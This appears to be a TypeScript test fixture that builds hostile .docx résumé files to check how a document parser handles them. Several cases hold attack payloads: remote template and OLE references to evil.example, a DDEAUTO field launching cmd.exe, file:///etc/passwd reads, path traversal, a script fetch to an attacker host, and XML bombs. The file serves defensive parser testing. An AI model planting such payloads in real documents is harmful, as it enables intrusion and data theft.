// Documents that refer to other addresses, or hold something that runs.
import { strToU8 } from 'fflate'
import { docxOf, documentXml, paragraph } from '../hostile.ts'
import { type HostileCase, noise } from './case.ts'

const says = 'Ada Example'
const body = paragraph('Ada Example, engine driver')
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** A document with relations and parts beside it. */
function docx(
  name: string,
  expected: HostileCase['expected'],
  { relations = '', parts = {}, document = body }: Beside,
): HostileCase {
  const more = Object.entries(parts).map(([path, text]) => [
    path,
    typeof text === 'string' ? strToU8(text) : text,
  ])
  return {
    name,
    filename: 'cv.docx',
    expected,
    bytes: () =>
      docxOf(documentXml(document), {
        'word/_rels/document.xml.rels': strToU8(`<Relationships>${relations}</Relationships>`),
        ...Object.fromEntries(more),
      }),
    ...(expected === 'reads' ? { says } : {}),
  }
}

interface Beside {
  relations?: string
  parts?: Record<string, string | Uint8Array>
  document?: string
}

const relation = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}" TargetMode="${mode}"/>`

const OUTSIDE = {
  'a template elsewhere': relation('attachedTemplate', 'http://evil.example/a.dotm'),
  'a template on a share': relation('attachedTemplate', '\\\\evil.example\\share\\a.dotm'),
  'a picture elsewhere': relation('image', 'http://evil.example/track.png'),
  'a picture from this machine': relation('image', 'file:///etc/passwd'),
  'an object elsewhere': relation('oleObject', 'mhtml:http://evil.example/x!x-usc:x'),
  'a frame elsewhere': relation('frame', 'http://evil.example/frame.html'),
  'a chunk elsewhere': relation('aFChunk', 'http://evil.example/chunk.html'),
  'a link that is a script': relation('hyperlink', 'javascript:alert(1)'),
  'a link of data': relation('hyperlink', 'data:text/html,evil'),
  'a part outside the package': relation('header', '../../../etc/passwd', 'Internal'),
  'a part that names itself': relation('officeDocument', 'document.xml', 'Internal'),
}

export const docxParts: HostileCase[] = [
  ...Object.entries(OUTSIDE).map(([name, relations]) =>
    docx(name, 'reads', { relations, document: `<w:hyperlink r:id="r1">${body}</w:hyperlink>` }),
  ),
  docx('parts that name each other', 'reads', {
    relations: relation('header', 'header1.xml', 'Internal'),
    parts: {
      'word/header1.xml': documentXml(body),
      'word/_rels/header1.xml.rels': relation('header', 'document.xml', 'Internal'),
    },
  }),
  docx('relations that never close', 'reads', { relations: '<Relationship '.repeat(140_000) }),
  docx('relations of open quotes', 'reads', {
    relations: `<Relationship ${' Id="'.repeat(350_000)}>`,
  }),
  docx('38 000 relations', 'reads', {
    relations: '<Relationship Id="a" Type="/hyperlink" Target="b"/>'.repeat(38_000),
  }),
  docx('styles that never close', 'reads', {
    parts: { 'word/styles.xml': '<w:style '.repeat(200_000) },
  }),
  docx('styles that declare entities', 'cv.corrupt', {
    parts: { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "b">]><w:styles/>' },
  }),
  docx('macros', 'cv.unsupported', { parts: { 'word/vbaProject.bin': noise(1, 4000) } }),
  docx('macros in another place', 'cv.unsupported', {
    parts: { 'word/macros/vbaProject.bin': noise(1, 4000) },
  }),
  docx('macros in other letters', 'cv.unsupported', {
    parts: { 'WORD/VBAPROJECT.BIN': noise(1, 4000) },
  }),
  docx('the content type of macros', 'cv.unsupported', {
    parts: {
      '[Content_Types].xml':
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    },
  }),
  docx('ActiveX controls', 'reads', {
    parts: {
      'word/activeX/activeX1.xml': '<ax:ocx/>',
      'word/activeX/activeX1.bin': noise(2, 4000),
    },
  }),
  docx('an embedded program', 'reads', {
    parts: { 'word/embeddings/oleObject1.bin': `MZ${'\x90'.repeat(4000)}` },
  }),
  docx('a chunk of HTML', 'reads', {
    parts: { 'word/afchunk.htm': '<script>fetch("http://evil.example")</script>' },
    document: `${body}<w:altChunk r:id="r1"/>`,
  }),
  docx('fields that call programs', 'reads', {
    document: `${body}<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>`,
  }),
  docx('fields that include files', 'reads', {
    document: `${body}<w:p><w:r><w:instrText>INCLUDETEXT "file:///etc/passwd"</w:instrText></w:r></w:p>`,
  }),
  docx('a field of open quotes', 'reads', {
    document: `${body}<w:p><w:r><w:instrText>HYPERLINK ${'"'.repeat(200_000)}</w:instrText></w:r></w:p>`,
  }),
  docx('thousands of links', 'reads', {
    document: `${body}<w:p>${'<w:r><w:instrText>HYPERLINK "https://a.example/"</w:instrText></w:r>'.repeat(20_000)}</w:p>`,
  }),
]
